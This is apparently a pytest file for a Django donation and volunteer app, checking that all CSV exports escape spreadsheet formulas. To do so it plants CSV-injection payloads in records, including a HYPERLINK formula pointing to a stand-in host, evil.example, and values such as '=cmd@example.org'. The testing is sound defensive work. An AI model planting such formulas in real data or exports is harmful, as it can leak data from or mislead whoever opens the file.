"""Every cell of every CSV export is formula-safe: one writer (core.csv.csv_writer) for all of them,
a scan that fails on any other CSV writer in the project, and each export downloaded with a formula in
every text field."""

import ast
import csv
import datetime
import io
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from campaigns.services import allocation_plan_set, totals_refresh
from core.csv import CSV_FORMULA_PREFIXES, csv_writer
from tests.factories import (
    BookingFactory,
    CampaignFactory,
    DonationFactory,
    ExpenditureFactory,
    FundFactory,
    RoleFactory,
    ShiftFactory,
    SpendingCategoryFactory,
    UserFactory,
    VolunteerProfileFactory,
)

ROOT = Path(__file__).resolve().parents[2]
PROJECT_DIRS = ("accounts", "campaigns", "config", "core", "donations", "messaging", "pages", "volunteers")


def _formula(label: str) -> str:
    return f'=HYPERLINK("http://evil.example/?{label}","x")'


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_formula_safe(body: str, planted: list[str]) -> None:
    cells = _cells(body)
    dangerous = [cell for cell in cells if cell.startswith(CSV_FORMULA_PREFIXES)]
    assert not dangerous, f"cells a spreadsheet would run as formulas: {dangerous}"
    for value in planted:
        assert "'" + value in cells, f"{value!r} is missing from the export (or was changed otherwise)"


def test_no_module_writes_csv_without_the_safe_writer():
    offenders = []
    for folder in PROJECT_DIRS:
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "core" / "csv.py":
                continue
            tree = ast.parse(path.read_text(), filename=str(path))
            for node in ast.walk(tree):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in {"writer", "DictWriter"}
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ) or (isinstance(node, ast.ImportFrom) and node.module == "csv"):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert not offenders, "write CSV with core.csv.csv_writer, which makes every cell safe:\n" + "\n".join(
        offenders
    )


def test_the_writer_makes_text_safe_and_leaves_numbers_and_dates_alone():
    out = io.StringIO()
    csv_writer(out).writerow(
        ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "Ann", None, -5, 12.5, datetime.date(2026, 1, 2)]
    )

    assert _cells(out.getvalue()) == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "Ann",
        "",
        "-5",
        "12.5",
        "2026-01-02",
    ]


@pytest.mark.django_db
def test_the_staff_gift_export_escapes_every_text_column(client):
    planted = {name: _formula(name) for name in ("campaign", "fund", "name", "email", "tribute", "reference")}
    fund = FundFactory(name=planted["fund"])
    campaign = CampaignFactory(title=planted["campaign"], fund=fund)
    DonationFactory(
        campaign=campaign,
        donor_name=planted["name"],
        donor_email=planted["email"],
        tribute_type="honour",
        tribute_name=_formula("tribute-name"),
        offline_reference=planted["reference"],
    )
    client.force_login(UserFactory(roles=["staff"]))

    response = client.get("/staff/donations/export.csv")
    body = b"".join(response.streaming_content).decode()

    _assert_formula_safe(
        body, [planted["campaign"], planted["fund"], planted["name"], planted["email"], planted["reference"]]
    )
    assert any(_formula("tribute-name") in cell for cell in _cells(body))


@pytest.mark.django_db
def test_the_roster_export_escapes_every_text_column(client):
    coordinator = UserFactory(roles=["coordinator"])
    shift = ShiftFactory(role=RoleFactory(coordinators=[coordinator]))
    person = UserFactory(roles=["volunteer"], name=_formula("name"), email="=cmd@example.org")
    VolunteerProfileFactory(user=person, phone='=HYPERLINK("x")')  # the field holds 40 characters
    BookingFactory(shift=shift, volunteer=person)
    client.force_login(coordinator)

    response = client.get(reverse("volunteers:coordinate:roster_csv", args=[shift.pk]))

    _assert_formula_safe(response.content.decode(), [_formula("name"), "=cmd@example.org", '=HYPERLINK("x")'])


@pytest.mark.django_db
def test_the_open_books_exports_escape_every_text_column(client):
    fund = FundFactory(name=_formula("fund-name"), slug="=fund")
    campaign = CampaignFactory(title=_formula("title"), slug="=campaign", fund=fund)
    category = SpendingCategoryFactory(name=_formula("category"), slug="=category")
    allocation_plan_set(campaign=campaign, lines=[(category, 10000)])
    ExpenditureFactory(campaign=campaign, fund=fund, category=category)
    DonationFactory(campaign=campaign, succeeded_at=timezone.now() - datetime.timedelta(days=40))
    totals_refresh(campaign_id=campaign.pk, fund_id=fund.pk)

    exports = {
        "/transparency/campaigns.csv": [_formula("title"), "=campaign", "=fund"],
        "/transparency/planned-split.csv": ["=campaign", _formula("category"), "=category"],
        "/transparency/spending.csv": [_formula("category"), "=category"],
        "/transparency/funds.csv": ["=fund", _formula("fund-name")],
        "/transparency/income.csv": ["=fund"],
    }
    for url, planted in exports.items():
        response = client.get(url)
        assert response.status_code == 200, url
        _assert_formula_safe(response.content.decode(), planted)
